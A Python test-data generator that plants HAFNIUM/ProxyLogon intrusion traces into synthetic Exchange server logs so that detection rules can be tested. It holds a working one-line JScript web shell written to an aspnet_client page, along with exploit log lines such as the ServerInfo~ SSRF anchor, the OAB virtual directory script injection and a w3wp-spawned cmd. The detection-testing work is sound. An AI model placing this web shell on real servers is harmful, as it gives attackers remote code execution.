"""A generated collection of Exchange servers, with a HAFNIUM intrusion planted into some of them.

The normal traffic and activity come from the evidence corpus's baseline (proven quiet on every rule):
its log lines are repeated with new times, its events and files copied. The intrusion is written here,
in the formats of the baseline's own headers: a web shell file, IIS lines, an HttpProxy row with a
`ServerInfo~` anchor, `Set-OabVirtualDirectory` with script in the ECP server log, w3wp starting cmd, and
an LSASS dump file. Nothing of it is committed: tests and the benchmark generate it into temporary folders.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path, PurePosixPath

import yaml

REPO = Path(__file__).resolve().parent.parent
ATTACKER = "103.77.192.219"  # CISA AA21-062A
SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>\n'


@dataclass(frozen=True, slots=True)
class Planted:
    server: str
    file: str  # posix path below the collection
    line: int  # 0: the file itself
    what: str


@dataclass(frozen=True, slots=True)
class LogTemplate:
    rel: str  # path below a server folder
    header: tuple[str, ...]
    fields: tuple[str, ...]
    rows: tuple[str, ...]
    format: str


def baseline() -> tuple[list[LogTemplate], list[tuple[str, Path]]]:
    """The baseline's logs as templates and its other files (events, copied files) as (rel, path)."""
    logs: list[LogTemplate] = []
    others: list[tuple[str, Path]] = []
    for manifest in sorted((REPO / "evidence" / "baseline").glob("*/manifest.yaml")):
        data = yaml.safe_load(manifest.read_text(encoding="utf-8"))
        for sample in data["samples"]:
            path = manifest.parent / PurePosixPath(sample["file"])
            if sample["format"] in (
                "iis-w3c",
                "exchange-httpproxy",
                "exchange-ecp-server",
                "exchange-oabgenerator",
            ):
                lines = path.read_text(encoding="utf-8").lstrip("\ufeff").splitlines()
                header = tuple(ln for ln in lines if ln.startswith("#"))
                fields_line = next(ln for ln in header if ln.lower().startswith("#fields:"))
                sep = " " if sample["format"] == "iis-w3c" else ","
                fields = tuple(f.strip() for f in fields_line.split(":", 1)[1].strip().split(sep))
                rows = tuple(ln for ln in lines if ln and not ln.startswith("#"))
                logs.append(LogTemplate(sample["file"], header, fields, rows, sample["format"]))
            else:
                others.append((sample["file"], path))
    return logs, others


def _retimed(t: LogTemplate, row: str, n: int) -> str:
    """A baseline row with a new time (second n of the day): rows differ, nothing else changes."""
    stamp = f"{n // 3600 % 24:02d}:{n // 60 % 60:02d}:{n % 60:02d}"
    if t.format == "iis-w3c":
        cells = row.split(" ")
        cells[t.fields.index("time")] = stamp
        return " ".join(cells)
    date, sep, rest = row.partition("T")
    return f"{date}T{stamp}{rest[8:]}" if sep and len(rest) > 8 else row


def _csv_line(fields: tuple[str, ...], values: dict[str, str]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow([values.get(f, "") for f in fields])
    return buf.getvalue()


def attack_lines(t: LogTemplate, server: str) -> list[tuple[str, str]]:
    """(line, what) of the intrusion for a log of this template's kind, in its own fields."""
    if t.format == "iis-w3c":
        base = {f: "-" for f in t.fields} | {"date": "2021-03-03", "time": "02:11:27", "s-ip": "10.0.10.5",
                                             "s-port": "443", "sc-status": "200", "sc-substatus": "0",
                                             "sc-win32-status": "0", "time-taken": "20", "c-ip": ATTACKER}  # fmt: skip
        probe = base | {
            "cs-method": "POST",
            "cs-uri-stem": "/ecp/y.js",
            "cs(User-Agent)": "ExchangeServicesClient/0.0.0.0",
        }
        shell = base | {"time": "02:16:03", "cs-method": "POST", "cs-uri-stem": "/aspnet_client/discover.aspx",
                        "cs(User-Agent)": "antSword/v2.1"}  # fmt: skip
        return [
            (" ".join(v[f] for f in t.fields), w)
            for v, w in ((probe, "IIS probe"), (shell, "IIS web shell call"))
        ]
    if t.format == "exchange-httpproxy" and "/Ecp/" in t.rel:
        row = {"DateTime": "2021-03-03T02:11:28.702Z", "RequestId": "9f1e2d3c-0000-4000-8000-000000000001",
               "Protocol": "Ecp", "UrlHost": "mail.contoso.com", "UrlStem": "/ecp/y.js", "IsAuthenticated": "False",
               "AnchorMailbox": f"ServerInfo~a]@{server}.contoso.local:444/mapi/emsmdb?a=~1942062522#",
               "UserAgent": "python-requests/2.25.1", "ClientIpAddress": ATTACKER, "ServerHostName": server,
               "HttpStatus": "200", "Method": "POST", "ProxyAction": "Proxy", "RoutingType": "Server"}  # fmt: skip
        return [(_csv_line(t.fields, row), "HttpProxy ServerInfo row")]
    if t.format == "exchange-ecp-server":
        cmd = ("'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">"
               "function Page_Load(){eval(Request[\"\"orange\"\"],\"\"unsafe\"\");}</script>''.Identity=''oab'''")  # fmt: skip
        values = ["2021-03-03T02:11:37.011Z", server, "ECP.Request", f'"S:TIME=1013;S:USID=;{cmd};S:REQID="']
        return [(",".join(values[: len(t.fields)]), "ECP Set-OabVirtualDirectory")]
    return []


def _spawn_event(server: str) -> str:
    data = {"RuleName": "-", "UtcTime": "2021-03-03 02:14:09.310", "ProcessId": 4321,
            "Image": "C:\\Windows\\System32\\cmd.exe", "OriginalFileName": "Cmd.Exe",
            "CommandLine": 'cmd /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&whoami&echo [S]&cd&echo [E]',
            "CurrentDirectory": "c:\\windows\\system32\\inetsrv\\", "User": "NT AUTHORITY\\SYSTEM",
            "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe",
            "ParentCommandLine": 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool"'}  # fmt: skip
    system = {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "Level": 4,
              "TimeCreated": {"#attributes": {"SystemTime": "2021-03-03T02:14:09.310Z"}},
              "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": f"{server}.contoso.local"}  # fmt: skip
    return json.dumps({"Event": {"System": system, "EventData": data}})


def _write_log(
    path: Path, t: LogTemplate, rows: int, attacks: list[tuple[str, str]]
) -> Iterator[tuple[int, str]]:
    """The log with `rows` baseline rows and the attack lines in the middle; yields (line, what)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="\n") as out:
        number = 0
        for line in t.header:
            out.write(line + "\n")
            number += 1
        for i in range(rows):
            if i == rows // 2:
                for line, what in attacks:
                    out.write(line + "\n")
                    number += 1
                    yield number, what
            out.write(_retimed(t, t.rows[i % len(t.rows)], 25_000 + i) + "\n")
            number += 1


def generate(root: Path, servers: dict[str, set[str]], *, rows: int = 300) -> list[Planted]:
    """One folder per server below root; servers maps a name to what is planted there ("logs", "files")."""
    logs, others = baseline()
    planted: list[Planted] = []
    for server, plant in sorted(servers.items()):
        home = root / server
        for t in logs:
            attacks = attack_lines(t, server) if "logs" in plant else []
            for line, what in _write_log(home / t.rel, t, rows, attacks):
                planted.append(Planted(server, f"{server}/{t.rel}", line, what))
        for rel, source in others:
            target = home / rel
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(source, target)
            if "logs" in plant and rel.endswith("Sysmon.jsonl"):
                with target.open("a", encoding="utf-8") as out:
                    out.write(_spawn_event(server) + "\n")
                lines = len(target.read_text(encoding="utf-8").splitlines())
                planted.append(Planted(server, f"{server}/{rel}", lines, "w3wp starts cmd"))
        if "files" in plant:
            for rel, content, what in (
                ("C/inetpub/wwwroot/aspnet_client/discover.aspx", SHELL.encode(), "web shell file"),
                ("C/Windows/Temp/lsass.dmp", b"MDMP\x93\xa7\x00\x00" + b"\x00" * 56, "LSASS dump file"),
            ):
                (home / rel).parent.mkdir(parents=True, exist_ok=True)
                (home / rel).write_bytes(content)
                planted.append(Planted(server, f"{server}/{rel}", 0, what))
    return planted
